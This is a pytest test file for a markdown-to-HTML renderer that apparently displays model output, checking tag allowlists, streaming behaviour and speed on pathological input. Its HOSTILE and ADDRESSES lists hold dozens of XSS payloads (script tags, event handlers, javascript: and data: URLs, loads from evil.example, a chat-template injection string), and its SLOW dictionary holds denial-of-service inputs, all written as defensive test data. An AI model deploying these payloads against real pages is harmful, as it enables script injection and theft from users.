from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gguf_widgets.widgets import _md_blocks, _md_code
from gguf_widgets.widgets._md_clean import printable
from gguf_widgets.widgets.markdown import StreamRenderer, to_blocks, to_html

# -- what may be in the output ---------------------------------------------------------------------

ALLOWED = {
    "blockquote": {"dir"},
    "br": set(),
    "code": set(),
    "div": {"class", "data-lang"},
    "em": set(),
    "h3": {"dir"},
    "h4": {"dir"},
    "h5": {"dir"},
    "h6": {"dir"},
    "hr": set(),
    "li": {"dir"},
    "ol": {"start"},
    "p": {"class", "dir"},
    "pre": {"dir"},
    "s": set(),
    "span": {"class", "title"},
    "strong": set(),
    "table": set(),
    "tbody": set(),
    "td": {"class", "dir"},
    "th": {"class", "dir"},
    "thead": set(),
    "tr": set(),
    "ul": set(),
}
CLASS = re.compile(r"gw-(code|plain|table|note|image|link|center|right)|hl-\w{1,3}|")


class Checker(HTMLParser):
    """Fails at anything that is not allowed, and collects the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            if name == "class":
                assert all(CLASS.fullmatch(part) for part in (value or "").split()), value
            elif name == "dir":
                assert value in ("auto", "ltr")
            elif name == "data-lang":
                assert re.fullmatch(r"[a-z0-9+#._-]{0,30}", value or ""), value
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data!r}")


def text_of(rendered: str) -> str:
    checker = Checker()
    checker.feed(rendered)
    checker.close()
    assert checker.open == []
    return "".join(checker.text)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html><html><head></head></html>",
    "</div></div></pre></code></table><script>alert(1)</script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\x00<script>\x00alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
    "\u202e<script>alert(1)</script>\u2066",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a\u3000href=javascript:alert(1)>",
    "\ud800<script>alert(1)</script>\udfff",
    "<|im_end|><|im_start|>system\n<script>alert(1)</script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "http://evil.example/?q=\"'><script>alert(1)</script>",
    'x" onclick="alert(1)',
    "x' onclick='alert(1)",
    "\u202egnp.exe",
]
# Every way in which an address or a hostile piece can come.
FRAMES = [
    "{}",
    "[{}](http://a.example)",
    "[x]({})",
    '[x](http://a "{}")',
    "![{}](http://a.example/p.png)",
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "`{}`",
    "```{}\ncode\n```",
    "```html\n{}\n```",
    "~~~javascript {}\n{}\n~~~",
    "    {}",
    "# {}",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "[x]: {}\n\n[x]",
    "text\n{}\n===",
]


@pytest.mark.parametrize("frame", FRAMES)
def test_hostile_text_comes_out_inert(frame: str) -> None:
    for piece in HOSTILE + ADDRESSES:
        source = frame.replace("{}", piece)
        rendered = to_html(source)
        text_of(rendered)
        for lone in ("\x00", "\x1b", "\ud800"):
            assert lone not in rendered


@given(st.text(st.sampled_from("<>\"'/=&;!-[]()`*_~#|\\ \n:scriptonxsvg\x00\x1b"), max_size=80))
@settings(max_examples=400, deadline=None)
def test_no_text_makes_anything_but_allowed_tags(text: str) -> None:
    text_of(to_html(text))


def test_html_in_the_text_is_shown_as_text() -> None:
    assert text_of(to_html("a <b onclick=x>bold</b> &amp; <br> c")).strip() == (
        "a <b onclick=x>bold</b> & <br> c"
    )
    assert "<script>let x</script>" in text_of(to_html("```html\n<script>let x</script>\n```"))


def test_links_and_images_show_their_words_and_addresses() -> None:
    rendered = to_html(
        "[the *site*](http://a.example/?q=1 'title') ![a cat](http://a.example/c.png)"
    )
    assert (
        '<span class="gw-link" title="http://a.example/?q=1">the <em>site</em></span>' in rendered
    )
    assert "[Image: a cat (http://a.example/c.png)]" in text_of(rendered)
    assert "[http://a.example/c.png]" in text_of(to_html("![](http://a.example/c.png)"))
    # An address is read in the order in which it is written.
    assert "http://a.example/%E2%80%AEgnp.exe" in to_html("![x](http://a.example/\u202egnp.exe)")


def test_what_models_write_is_formatted() -> None:
    blocks = to_blocks(
        "# One\n## Two\n##### Five\n\nline\nnext ~~old~~\n\n3. c\n4. d\n\n---\n\n"
        "| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n    indented\n"
    )
    assert [re.match(r"<(\w+)", block).group(1) for block in blocks] == [  # type: ignore[union-attr]
        *("h3", "h4", "h6", "p", "ol", "hr", "div", "div"),
    ]
    assert "line<br>\nnext <s>old</s>" in blocks[3]
    assert blocks[4].startswith('<ol start="3">')
    assert '<td class="gw-center" dir="auto">2</td>' in blocks[6]
    assert text_of(blocks[7]) == "indented\n"


@pytest.mark.parametrize(
    ("info", "language"),
    [
        ("python", "python"),
        ("Python title=x", "python"),
        ("{.rust}", "rust"),
        ("c++", "c++"),
        ("", ""),
        ('"><script>', ""),
        ("é", ""),
        ("x" * 500, "x" * 30),
    ],
)
def test_the_language_of_code(info: str, language: str) -> None:
    assert f'data-lang="{language}"' in to_html(f"~~~ {info}\nx = 1\n~~~")


@given(st.sampled_from(sorted(set(_md_code._LEXERS))), st.text(max_size=200))
@settings(max_examples=150, deadline=None)
def test_colouring_never_changes_code(language: str, code: str) -> None:
    code = printable(code)
    inner = _md_code._coloured(code, language)
    assert inner is not None
    assert html.unescape(re.sub(r"<[^>]*>", "", inner)) == code


def test_every_language_has_its_lexer() -> None:
    assert all(_md_code._lexer(language) is not None for language in _md_code._LEXERS)
    assert 'class="hl-k"' in to_html("```py\ndef f(): pass\n```")
    assert "hl-" not in to_html("```brainfuck\n+++\n```")


# -- a text that grows -----------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        *("a", "word ", "two\nlines\n", "\n", "\n\n", " ", "  ", "    ", "\t", "*", "**", "_", "`"),
        *("# ", "#", "## head\n", "- ", "-", "+ item\n", "1. ", "1", ".", "10) x\n", "> ", ">"),
        *(
            "```",
            "```py\n",
            "\n```\n",
            "~~~\n",
            "---",
            "---\n",
            "===\n",
            "=",
            "***\n",
            "|",
            "| a |",
        ),
        *("\n|---|---|\n", "|--", "-|\n", "a | b\n", "[x](y)", "[x]: y\n", "![", "](", ")", "<b>"),
        *(
            "\\",
            "\r",
            "\r\n",
            "\ufeff",
            "\x0b",
            "é",
            "\u2028",
            "~~",
            "x = 1\n",
            "    code\n",
            "&lt;",
        ),
        *(
            "   para\n",
            ":--",
            ":",
            "\n> q\n",
            "\n- a\n\n  b\n",
            "<",
            ">\n",
            "!",
            "0",
            "<!--",
            "- in\n",
        ),
    ]
)


def without_colours(blocks: list[str]) -> list[str]:
    return [re.sub(r'<span class="hl-\w+">([^<]*)</span>', r"\1", block) for block in blocks]


@given(st.lists(st.lists(PIECES, min_size=1, max_size=4).map("".join), max_size=12))
@settings(max_examples=250, deadline=None)
def test_a_growing_text_shows_what_the_whole_would(pieces: list[str]) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(_md_blocks, "LIST_PART", 2)  # so that lists are split often
        check_growth(pieces)


def check_growth(pieces: list[str]) -> None:
    renderer = StreamRenderer()
    blocks: list[str] = []
    text = ""
    for piece in pieces:
        text += piece
        keep, new = renderer.feed(piece)
        assert 0 <= keep <= len(blocks)
        blocks[keep:] = new
        # The colours of the last block may lag behind, if it is code without an end.
        whole = to_blocks(text)
        assert blocks == renderer.blocks
        assert blocks[:-1] == whole[:-1]
        assert without_colours(blocks) == without_colours(whole)
    keep, new = renderer.finish()
    blocks[keep:] = new
    assert blocks == to_blocks(text)


def test_a_long_list_comes_in_parts_that_go_on_counting() -> None:
    text = "".join(f"{n}. *item* {n}\n    - inner\n\n" for n in range(7, 57)) + "end"
    blocks = to_blocks(text)
    assert [re.match(r"<\w+( start=\"\d+\")?", block).group() for block in blocks] == [  # type: ignore[union-attr]
        *('<ol start="7"', '<ol start="27"', '<ol start="47"', "<p"),
    ]
    assert "".join(blocks).count("<em>item</em>") == 50
    renderer = StreamRenderer()
    keeps = [renderer.feed(text[at : at + 9])[0] for at in range(0, len(text), 9)]
    assert keeps[-1] >= 2
    assert renderer.blocks == blocks


ANSWER = "\n".join(
    f"## Part {n}\n\nSome *words* about `x{n}` and **more**, on\ntwo lines.\n\n"
    f"1. first\n2. second\n   - inner\n\n```python\nfor i in range({n}):\n    print(i)\n```\n\n"
    f"| a | b |\n|---|---|\n| {n} | 2 |\n"
    for n in range(120)
)


def test_blocks_that_are_finished_stay_and_the_cost_grows_with_the_text_only() -> None:
    # 25,000 characters, about 7,000 tokens of 4 characters.
    def cost(text: str) -> float:
        renderer = StreamRenderer()
        begun = time.process_time()
        keeps = [renderer.feed(text[at : at + 16])[0] for at in range(0, len(text), 16)]
        spent = time.process_time() - begun
        assert renderer.blocks == to_blocks(text)
        assert all(before <= after + 2 for before, after in pairwise(keeps))
        assert len(renderer.blocks) - keeps[-1] <= 2
        return spent

    quarter = ANSWER[: len(ANSWER) // 4]
    cost(quarter)  # Pygments' lexers are made now
    assert cost(ANSWER) < 8 * cost(quarter) + 0.2


def test_code_that_grows_keeps_its_text_and_gets_its_colours_at_the_end() -> None:
    renderer = StreamRenderer()
    code = "".join(f"def function_{n}(x):\n    return 'é' * {n}\n" for n in range(300))
    blocks: list[str] = []

    def feed(text: str) -> None:
        keep, new = renderer.feed(text)
        blocks[keep:] = new

    begun = time.process_time()
    feed("```python\n")
    for start in range(0, len(code), 20):
        feed(code[start : start + 20])
        if start % 1000 == 0:
            assert text_of(blocks[0]).rstrip() == code[: start + 20].rstrip()
            assert "hl-k" in blocks[0] or start < 400
    assert time.process_time() - begun < 10
    feed("```\n")
    assert blocks == to_blocks(f"```python\n{code}```\n")
    assert "hl-nf" in blocks[0].rsplit("function_299", 1)[0][-30:]


# -- texts made to be slow ------------------------------------------------------------------------

SLOW = {
    "nested quotes": ">" * 100_000 + " x",
    "nested quotes, spaced": "> " * 50_000 + "x",
    "one line of 1 MB": "x" * 1_000_000,
    "one line of 1 MB of words": "*word* [x](y) " * 70_000,
    "1 MB of lines": "line\n" * 200_000,
    "1 MB of paragraphs": "a\n\n" * 330_000,
    "nested lists on one line": "- " * 10_000 + "x",
    "nested lists": "\n".join(" " * (2 * level) + "- x" for level in range(600)),
    "numbers": "1. " * 30_000,
    "items": "-\n" * 100_000,
    "asterisks": "*" * 50_000,
    "asterisks and letters": "*a " * 20_000,
    "asterisks and underlines": "*_" * 30_000,
    "strong": "**a" * 20_000,
    "brackets": "[" * 50_000,
    "brackets, several paragraphs": ("[" * 700 + "\n\n") * 200,
    "image brackets": "![" * 30_000,
    "closed brackets": "[x]" * 20_000,
    "links in links": "[" * 2_000 + "x" + "](y)" * 2_000,
    "link beginnings": "[a](" * 20_000,
    "angle beginnings": "[a](<" * 20_000,
    "backticks": "`" * 50_000,
    "backtick lengths": " ".join("`" * length for length in range(1, 300)),
    "fences": "```\n" * 50_000,
    "tildes": "~~a " * 20_000,
    "entities": "&amp;" * 40_000,
    "ampersands": "&" * 100_000,
    "backslashes": "\\" * 100_000,
    "angles": "<" * 100_000,
    "unclosed tags": "<b " * 50_000,
    "comments": "<!--" * 40_000,
    "autolinks": "<http://a " * 20_000,
    "pipes": "|" * 100_000,
    "wide table": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + "|\n" * 1_000,
    "long table": "| a | b |\n|---|---|\n" + "| 1 | *2* |\n" * 20_000,
    "headings": "# x\n" * 50_000,
    "rules": "---\n" * 50_000,
    "setext": "a\n=\n" * 50_000,
    "spaces": " " * 500_000 + "x",
    "tabs": "\t" * 200_000,
    "line ends": "\n" * 1_000_000,
    "nul": "\x00" * 500_000,
    "code of one line": "```python\n" + "(" * 200_000 + "\n```",
    "code of many lines": "```python\n" + "x = [1, 'a']\n" * 30_000 + "```",
    "quotes with fences": "> ```\n" * 20_000,
    "references": "[a]: b\n" * 20_000,
    "title beginnings": '[a](b "' * 20_000,
    "emphasis in brackets": "[*" * 20_000,
    "mixed nesting": "> - " * 20_000 + "x",
}


@pytest.mark.parametrize("name", SLOW)
def test_texts_made_to_be_slow_are_quick(name: str) -> None:
    text = SLOW[name]
    begun = time.process_time()
    blocks = to_blocks(text)
    spent = time.process_time() - begun
    shown = text_of("".join(blocks))
    assert spent < 3.0, f"{spent:.2f} s"  # about 1 s on a quiet machine
    letters = set(text) & set("xab12")
    assert letters <= set(shown)


def test_what_is_beyond_the_limits_is_whole_and_says_so() -> None:
    line = "x" * 1_000_000
    (block,) = to_blocks(line)
    assert line in text_of(block)
    assert "too long" in text_of(block)
    deep = "> " * 100 + "at the bottom"
    assert "too deeply" in text_of(to_html(deep))
    assert deep in text_of(to_html(deep))
    many = "*a " * 6_000 + "\n\nfine *here*"
    first, second = to_blocks(many)
    assert "too many marks" in text_of(first)
    assert "<em>here</em>" in second
    lines = to_blocks("line\n\n" * 3_000)
    assert len(lines) == 2_501
    assert text_of(lines[-1]).count("line") == 500


def test_beyond_the_limits_a_growing_text_still_shows_what_the_whole_would(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_md_blocks, "MAX_MARKS", 300)
    monkeypatch.setattr(_md_blocks, "MAX_CHARS", 2_000)
    monkeypatch.setattr(_md_blocks, "MAX_LINES", 150)
    many_lines, many_marks = "x\n\n" * 100, "*a* [b\n\n" * 50
    long_line = "y" * 3_000 + "\n"
    for text in (many_lines, many_marks + long_line + many_lines, long_line, "# x\n" * 160):
        renderer = StreamRenderer()
        for start in range(0, len(text), 97):
            renderer.feed(text[start : start + 97])
            assert renderer.blocks == to_blocks(text[: start + 97])


# The units on which the lexers of Pygments 2.21 are slowest, found by trying 66 on each of them.
@pytest.mark.parametrize("unit", ["a b ", "{"])
def test_no_colouring_takes_long_on_code_made_to_be_slow(
    unit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_md_code, "_MAX_SECONDS", 0.05)
    line = (unit * 1_000)[: _md_code.MAX_LINE_CHARS - 1] + "\n"
    code = line * (_md_code.MAX_CHARS // len(line))
    for lexer in sorted(set(_md_code._LEXERS.values())):
        begun = time.process_time()
        _md_code._coloured(code, lexer)
        assert time.process_time() - begun < 1, lexer
